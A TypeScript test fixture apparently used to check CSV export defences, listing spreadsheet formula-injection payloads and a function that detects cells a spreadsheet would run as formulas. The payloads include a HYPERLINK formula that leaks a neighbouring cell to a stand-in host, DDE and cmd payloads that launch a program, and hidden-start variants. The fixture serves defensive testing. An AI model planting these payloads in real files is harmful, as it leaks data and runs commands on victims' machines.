/**
 * The spreadsheet formulas a hostile test put in every text field a maker controls: a HYPERLINK that sends its
 * neighbours away, DDE, and the forms that hide a formula's start (a TAB, a CR, leading spaces, a full-width "=").
 */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Read the docs")',
  "+SUM(1,2)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '   =HYPERLINK("http://evil.example")',
  '\uFF1DHYPERLINK("http://evil.example")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
];

/** Whether a spreadsheet would run `cell` as a formula (OWASP's "CSV Injection"). */
export function runsAsFormula(cell: string): boolean {
  return /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(cell);
}
